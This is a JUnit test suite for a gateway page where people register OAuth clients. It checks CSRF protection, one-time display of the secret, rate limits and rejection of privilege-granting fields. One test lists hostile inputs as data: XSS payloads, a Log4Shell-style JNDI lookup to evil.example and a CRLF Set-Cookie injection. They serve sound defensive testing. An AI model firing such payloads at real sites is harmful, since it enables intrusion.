package org.symbolon;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.symbolon.web.Answer;
import org.symbolon.web.TestBrowser;

/** The page on which a person registers a client by hand, on a gateway that runs. */
class OwnClientPageTest {
  private static final String PAGE = "/own/account/register";

  @TempDir private static Path directory;
  private static OwnClientSite site;

  @BeforeAll
  static void serve() throws Exception {
    site = new OwnClientSite(directory);
  }

  @AfterAll
  static void stop() throws Exception {
    site.close();
  }

  @Test
  void whoever_is_not_signed_in_signs_in_first() {
    assertThat(site.tool().browser().get(PAGE).next()).startsWith("/own/sign-in?");
  }

  @Test
  void what_a_person_registers_logs_people_in_and_is_listed_and_deleted_by_them() throws Exception {
    TestBrowser alice = site.browser("own", "alice");
    assertThat(alice.get("/own/account").body()).contains("Register a program of your own");
    Answer done = alice.submit(alice.get(PAGE), OwnClientSite.typed("A plotter"));
    assertThat(done.status()).as(done.body()).isEqualTo(200);
    assertThat(done.body()).contains("Your program is registered").doesNotContain("client_secret");

    String id = given(done, "client_id");
    DeviceTool plotter = site.tool().as(id);
    JsonNode tokens = plotter.approved(plotter.browser(), "own", "bob", "openid");
    assertThat(DeviceTool.claims(tokens.get("access_token").asText()).get("sub").asText())
        .isEqualTo("bob");

    Answer account = alice.get("/own/account");
    assertThat(account.body()).contains("A plotter", "Its name here is " + id);
    assertThat(alice.submit(account, Map.of("what", "registered", "id", id)).body())
        .contains("That has ended.")
        .doesNotContain("A plotter");
    assertThat(site.browser("own", "bob").get("/own/account").body()).doesNotContain(id);
  }

  @Test
  void a_confidential_client_gets_a_secret_that_proves_it_and_management_that_works()
      throws Exception {
    TestBrowser alice = site.browser("own", "alice");
    Map<String, String> typed = OwnClientSite.typed("A web site");
    typed.put("kind", "web");
    typed.put("keeps_secret", "yes");
    typed.put("addresses", " https://app.example/cb \r\n\r\nhttps://app.example/other\r\n");
    Answer done = alice.submit(alice.get(PAGE), typed);

    assertThat(done.body()).contains("Counts until ", "<code>" + site.tool().origin() + "/own<");
    String id = given(done, "client_id");
    assertThat(pushed(id, given(done, "client_secret"))).isEqualTo(201);
    assertThat(pushed(id, "guessed")).isEqualTo(401);
    JsonNode read =
        DeviceTool.json(
            HttpClient.newHttpClient()
                .send(
                    HttpRequest.newBuilder(URI.create(given(done, "registration_client_uri")))
                        .header(
                            "Authorization", "Bearer " + given(done, "registration_access_token"))
                        .build(),
                    BodyHandlers.ofString()));
    assertThat(read.get("redirect_uris"))
        .extracting(JsonNode::asText)
        .containsExactly("https://app.example/cb", "https://app.example/other");
    assertThat(read.get("grant_types"))
        .extracting(JsonNode::asText)
        .containsExactlyInAnyOrder("authorization_code", "refresh_token");
    assertThat(read.get("scope").asText()).isEqualTo("openid");
  }

  @Test
  void the_secret_is_shown_once_and_kept_by_no_cache() {
    TestBrowser alice = site.browser("own", "alice");
    Map<String, String> typed = OwnClientSite.typed("Shown once");
    typed.put("keeps_secret", "yes");
    Answer form = alice.get(PAGE);
    Answer done = alice.submit(form, typed);
    assertThat(done.header("Cache-Control")).isEqualTo("no-store");
    String secret = given(done, "client_secret");

    Answer again = alice.submit(form, typed);
    assertThat(again.status()).isEqualTo(409);
    assertThat(again.body())
        .contains("This form was sent before", "value=\"Shown once\"")
        .doesNotContain(secret, given(done, "registration_access_token"));
    assertThat(alice.get("/own/account").body()).doesNotContain(secret);
    assertThat(site.clients().lines().filter(line -> line.contains("Shown once"))).hasSize(1);
  }

  @Test
  void of_many_times_the_same_form_at_once_one_client_comes() {
    TestBrowser alice = site.browser("own", "alice");
    Answer form = alice.get(PAGE);
    List<CompletableFuture<Answer>> sent =
        Stream.generate(() -> OwnClientSite.typed("At once"))
            .limit(6)
            .map(typed -> CompletableFuture.supplyAsync(() -> alice.submit(form, typed)))
            .toList();
    assertThat(sent.stream().map(CompletableFuture::join).map(Answer::status))
        .containsOnly(200, 409)
        .containsOnlyOnce(200);
    assertThat(site.clients().lines().filter(line -> line.contains("At once"))).hasSize(1);
  }

  @Test
  void nothing_is_registered_without_a_form_of_ours() {
    TestBrowser alice = site.browser("own", "alice");
    Map<String, String> typed = OwnClientSite.typed("Forged");
    assertThat(alice.post(PAGE, typed).status()).isEqualTo(403);
    typed.put("csrf", "forged");
    assertThat(alice.post(PAGE, typed).status()).isEqualTo(403);
    typed.put("csrf", alice.get("/own/account").hidden("csrf").orElseThrow());
    assertThat(alice.post(PAGE, typed).status()).as("another page's token").isEqualTo(403);
    Answer elsewhere = site.browser("own", "alice").get(PAGE);
    typed.put("csrf", elsewhere.hidden("csrf").orElseThrow());
    typed.put("transaction", elsewhere.hidden("transaction").orElseThrow());
    assertThat(alice.post(PAGE, typed).status()).as("another browser's form").isEqualTo(403);
    alice.get(PAGE + "?" + "name=Forged&kind=device&keeps_secret=no&scope=openid");
    assertThat(site.clients()).doesNotContain("Forged");
  }

  @Test
  void a_form_that_was_shown_to_somebody_else_registers_nothing_for_who_is_there_now() {
    TestBrowser browser = site.browser("busy", "alice");
    Answer form = browser.get("/busy/account/register");
    Answer account = browser.get("/busy/account");
    browser.submit(account, Map.of("what", "everything"));
    assertThat(browser.submit(form, OwnClientSite.typed("Left open")).status()).isEqualTo(400);
    site.signIn(browser, "busy", "carol");
    assertThat(browser.submit(form, OwnClientSite.typed("Left open")).status()).isEqualTo(409);
    assertThat(site.clients()).doesNotContain("Left open");
  }

  @Test
  void what_is_wrong_is_told_beside_its_field_and_what_was_typed_stays() {
    TestBrowser alice = site.browser("own", "alice");
    Map<String, String> typed = OwnClientSite.typed("L\u0430b-P\u043ertal");
    typed.put("kind", "web");
    typed.put("addresses", "https://app.example/cb\nhttp://app.example/<b>");
    Answer mixed = alice.submit(alice.get(PAGE), typed);
    assertThat(mixed.status()).isEqualTo(400);
    assertThat(problem(mixed, "name")).contains("mixes scripts");
    assertThat(problem(mixed, "addresses"))
        .contains("“http://app.example/&lt;b&gt;”")
        .doesNotContain("“https://app.example/cb”");
    assertThat(mixed.body()).contains("2 things have to be changed").doesNotContain("/<b>");

    typed.put("name", "lab portal.");
    typed.put("addresses", "https://app.example/cb");
    Answer taken = alice.submit(mixed, typed);
    assertThat(problem(taken, "name")).contains("is read like that of another program");
    typed.put("name", "Another portal");
    assertThat(alice.submit(taken, typed).status()).isEqualTo(200);
  }

  @Test
  void what_a_form_lacks_is_told_all_at_once() {
    TestBrowser alice = site.browser("own", "alice");
    Answer nothing = alice.submit(alice.get(PAGE), Map.of());
    assertThat(nothing.status()).isEqualTo(400);
    for (String field : List.of("name", "kind", "keeps_secret", "addresses", "scope")) {
      assertThat(problem(nothing, field)).as(field).isNotEmpty();
    }
    Map<String, String> typed = OwnClientSite.typed("With an address");
    typed.put("addresses", "https://app.example/cb");
    assertThat(problem(alice.submit(nothing, typed), "addresses")).contains("leave this empty");
  }

  @Test
  void no_form_sets_a_privilege() {
    TestBrowser alice = site.browser("own", "alice");
    Map<String, String> typed = OwnClientSite.typed("Greedy");
    typed.put("scope", "clients.register");
    assertThat(problem(alice.submit(alice.get(PAGE), typed), "scope")).contains("at least one");
    typed.put("scope", "openid");
    typed.put("grant_types", "password client_credentials");
    typed.put("introspect", "true");
    typed.put("client_id", "cli");
    Answer done = alice.submit(alice.get(PAGE), typed);
    assertThat(given(done, "client_id")).isNotEqualTo("cli");
    typed.put("kind", "robot");
    assertThat(problem(alice.submit(alice.get(PAGE), typed), "kind")).isNotEmpty();
  }

  @Test
  void hostile_values_in_any_field_break_nothing_and_become_no_markup() {
    TestBrowser alice = site.browser("own", "alice");
    for (String evil :
        List.of(
            "</textarea><script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "\u0000",
            "\u202e",
            "${jndi:ldap://evil.example/}",
            "javascript:alert(1)",
            "x".repeat(9_000),
            "\r\nSet-Cookie: evil=1",
            "https://a.example/\n".repeat(30))) {
      for (String kind : List.of("native", evil)) {
        Map<String, String> typed = OwnClientSite.typed(evil);
        typed.putAll(Map.of("kind", kind, "addresses", evil));
        Answer answer = alice.submit(alice.get(PAGE), typed);
        assertThat(answer.status()).as(evil).isEqualTo(400);
        assertThat(answer.body()).doesNotContain("<script", "<img");
      }
    }
  }

  @Test
  void whom_no_rule_lets_register_clients_the_page_does_not_either() {
    TestBrowser bob = site.browser("own", "bob");
    Answer refused = bob.get(PAGE);
    assertThat(refused.status()).isEqualTo(403);
    assertThat(refused.body()).contains("does not let you register").doesNotContain("<form");
    Map<String, String> form = OwnClientSite.typed("Of bob");
    form.put("csrf", bob.get("/own/account").hidden("csrf").orElseThrow());
    assertThat(bob.post(PAGE, form).status()).isEqualTo(403);
    assertThat(site.clients()).doesNotContain("Of bob");
  }

  @Test
  void where_people_do_not_register_clients_there_is_no_such_page() {
    TestBrowser alice = site.browser("token", "alice");
    assertThat(alice.get("/token/account").body()).doesNotContain("Register a program");
    assertThat(alice.get("/token/account/register").status()).isEqualTo(404);
    assertThat(alice.post("/token/account/register", OwnClientSite.typed("x")).status())
        .isEqualTo(404);
  }

  @Test
  void whoever_registers_too_often_waits_and_loses_nothing_typed() {
    TestBrowser alice = site.browser("busy", "alice");
    Map<String, String> typed = OwnClientSite.typed("Lab Portal");
    Answer page = alice.get("/busy/account/register");
    for (int i = 0; i < 50; i++) {
      page = alice.submit(page, typed);
      assertThat(page.status()).isEqualTo(400);
    }
    Answer later = alice.submit(page, OwnClientSite.typed("Once more"));
    assertThat(later.status()).isEqualTo(429);
    assertThat(later.header("Retry-After")).isEqualTo("3600");
    assertThat(later.body()).contains("too many registrations", "value=\"Once more\"");
    assertThat(site.clients()).doesNotContain("Once more");
  }

  private static int pushed(String id, String secret) throws Exception {
    String basic =
        Base64.getEncoder().encodeToString((id + ":" + secret).getBytes(StandardCharsets.UTF_8));
    return HttpClient.newHttpClient()
        .send(
            HttpRequest.newBuilder(URI.create(site.tool().origin() + "/own/oauth2/par"))
                .header("Authorization", "Basic " + basic)
                .header("Content-Type", "application/x-www-form-urlencoded")
                .POST(
                    BodyPublishers.ofString(
                        "response_type=code&scope=openid&code_challenge_method=S256"
                            + "&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM&client_id="
                            + id
                            + "&redirect_uri="
                            + URLEncoder.encode("https://app.example/cb", StandardCharsets.UTF_8)))
                .build(),
            BodyHandlers.ofString())
        .statusCode();
  }

  private static String given(Answer page, String term) {
    return found(page, "<code>" + term + "</code></dt>\\s*<dd><code>([^<]*)</code>");
  }

  private static String problem(Answer page, String field) {
    return found(page, "id=\"" + field + "-problem\"><bdi>(.*?)</bdi>");
  }

  private static String found(Answer page, String pattern) {
    Matcher matcher = Pattern.compile(pattern).matcher(page.body());
    assertThat(matcher.find()).as(page.body()).isTrue();
    return matcher.group(1);
  }
}
